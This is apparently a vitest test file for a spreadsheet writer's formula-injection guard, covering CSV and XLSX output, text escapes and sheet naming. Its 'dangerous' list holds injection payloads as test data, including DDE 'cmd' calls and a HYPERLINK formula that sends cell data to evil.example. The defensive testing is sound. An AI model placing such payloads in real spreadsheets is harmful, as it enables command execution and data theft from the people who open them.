import { describe, expect, it } from 'vitest';
import type { Sheet } from '../../../main/ports/table-writer';
import { EventLoopPacer } from '../../../main/files/event-loop-pacer';
import { looksLikeFormula, neutralizeFormula } from '../../../main/files/sheet/formula-guard';
import { SpreadsheetWriter } from '../../../main/files/sheet/spreadsheet-writer';
import { sheetNames } from '../../../main/files/sheet/xlsx-parts';
import { FileTableReader } from '../../../main/files/table/file-table-reader';
import { ZipParts } from '../../../main/files/table/zip-parts';
import { temporaryFile } from './fixtures';

const dangerous: readonly string[] = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\tplain',
  '\rplain',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '\u202e=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '﹢1',
  '﹣1',
  '﹫x',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "-2+3+cmd|' /C calc'!A0",
  '@',
  '=',
];

const harmless: readonly string[] = [
  '',
  '山谷食品商行',
  'wxf1c0de00000000a1',
  '138-0013-8001',
  '(集团)',
  "'=quoted already",
  'a=b',
  '1+1',
  '2026-03-01',
  '"quoted"',
  '（=1）',
];

const writer = new SpreadsheetWriter(new EventLoopPacer());

async function readBack(sheets: readonly Sheet[]): Promise<readonly (readonly string[])[]> {
  const path = await temporaryFile('back.xlsx', await writer.xlsx(sheets));
  const options = { encoding: null, sheet: null, signal: new AbortController().signal };
  return (await new FileTableReader(new EventLoopPacer()).read(path, options)).rows.map(({ cells }) => cells);
}

async function partOf(bytes: Uint8Array, name: string): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of (await ZipParts.open(Buffer.from(bytes))).read(name)) chunks.push(chunk);
  return Buffer.concat(chunks).toString('utf8');
}

describe('texts that could be formulas', () => {
  it.each(dangerous)('%j gets an apostrophe', (text) => {
    expect(looksLikeFormula(text)).toBe(true);
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each(harmless)('%j stays as it is', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });

  it('none leaves in CSV, neither in the heading nor below', async () => {
    const csv = Buffer.from(await writer.csv({ name: 'x', header: ['=h'], rows: dangerous.map((text) => [text]) }));
    const cells = [...csv.toString('utf8').matchAll(/"((?:[^"]|"")*)"/g)].map((match) =>
      (match[1] ?? '').replaceAll('""', '"'),
    );

    // Readers end a text at a NUL, or refuse the file.
    expect(cells).toEqual(["'=h", ...dangerous.map((text) => `'${text.replaceAll('\0', '')}`)]);
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });

  it('none leaves in XLSX: every cell is a text, and there is no formula element', async () => {
    const bytes = await writer.xlsx([{ name: 'x', header: ['=h'], rows: dangerous.map((text) => [text]) }]);
    const xml = await partOf(bytes, 'xl/worksheets/sheet1.xml');
    const types = [...xml.matchAll(/<c [^>]*t="(\w+)"/g)].map((match) => match[1]);
    const texts = [...xml.matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g)].map((match) => match[1] ?? '');

    expect(types).toHaveLength(dangerous.length + 1);
    expect(new Set(types)).toEqual(new Set(['inlineStr']));
    expect(xml).not.toMatch(/<f[ >]|<v>/);
    expect(texts.filter((text) => !text.startsWith("'"))).toEqual([]);
    expect(await partOf(bytes, 'xl/styles.xml')).toContain('numFmtId="49"');
  });
});

describe('XLSX', () => {
  it('gives back what was written: markup, line breaks, blanks, rare characters, Excel escapes', async () => {
    const texts = [
      '<a & "b">',
      '一行\n二行\r\n三行',
      '  blanks  ',
      '㐀山 🍵',
      '_x0041_ and _x000D_',
      'a'.repeat(20_000),
    ];
    const back = await readBack([{ name: '清单', header: ['甲', '乙', '丙', '丁', '戊', '己'], rows: [texts] }]);

    expect(back[0]).toEqual(['甲', '乙', '丙', '丁', '戊', '己']);
    expect(back[1]).toEqual(texts);
  });

  it('leaves out what XML cannot hold', async () => {
    expect((await readBack([{ name: 'x', header: ['h'], rows: [['a\u0000b\u000bc\ud800d\uffffe']] }]))[1]).toEqual([
      'abcde',
    ]);
  });

  it('cuts what Excel cannot hold', async () => {
    const xml = await partOf(
      await writer.xlsx([{ name: 'x', header: ['h'], rows: [['长'.repeat(40_000)]] }]),
      'xl/worksheets/sheet1.xml',
    );

    expect(/长+…?/.exec(xml)?.[0]).toHaveLength(32_767);
  });

  it('names sheets as Excel accepts them', () => {
    const names = ['a/b:c?d*e[f]\\g', 'x'.repeat(40), 'X'.repeat(40), '', "'quoted'"];
    const given = sheetNames(names.map((name) => ({ name, header: [], rows: [] })));

    expect(given.every((name) => name.length >= 1 && name.length <= 31 && !/[[\]:*?/\\]/.test(name))).toBe(true);
    expect(new Set(given.map((name) => name.toLowerCase())).size).toBe(names.length);
  });

  it('gives equal files for equal contents', async () => {
    const sheets = [{ name: 'x', header: ['h'], rows: [['a']] }];

    expect(await writer.xlsx(sheets)).toEqual(await writer.xlsx(sheets));
  });
});

describe('valid for every reader', () => {
  it('every row and every cell names its place', async () => {
    const header = Array.from({ length: 28 }, (_, n) => `h${n}`);
    const xml = await partOf(
      await writer.xlsx([{ name: 'x', header, rows: [['1', '2']] }]),
      'xl/worksheets/sheet1.xml',
    );
    const places = [...xml.matchAll(/<(row|c) r="([A-Z]*\d+)"/g)].map((match) => match[2]);

    expect([...xml.matchAll(/<(?:row|c)[ >]/g)]).toHaveLength(places.length);
    expect(places.slice(0, 3)).toEqual(['1', 'A1', 'B1']);
    expect(places.slice(27, 32)).toEqual(['AA1', 'AB1', '2', 'A2', 'B2']);
  });

  it('a sheet without columns has no empty list of them', async () => {
    const bytes = await writer.xlsx([{ name: 'x', header: [], rows: [] }]);

    expect(await partOf(bytes, 'xl/worksheets/sheet1.xml')).not.toContain('<cols>');
  });

  it('names of sheets are apart whatever their case, never half a character, and none that Excel reserves', () => {
    const sheet = (name: string): Sheet => ({ name, header: [], rows: [] });
    const names = sheetNames([
      sheet('A'),
      sheet('a'),
      sheet('a 2'),
      sheet('History'),
      sheet(`${'x'.repeat(30)}👍🏽`),
      sheet(`'quoted'`),
      sheet(''),
    ]);

    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
    expect(names.every((name) => name.length > 0 && name.length <= 31 && !/^'|'$/.test(name))).toBe(true);
    expect(names[3]).not.toMatch(/^history$/i);
    expect(names[4]).toBe('x'.repeat(30));
  });
});
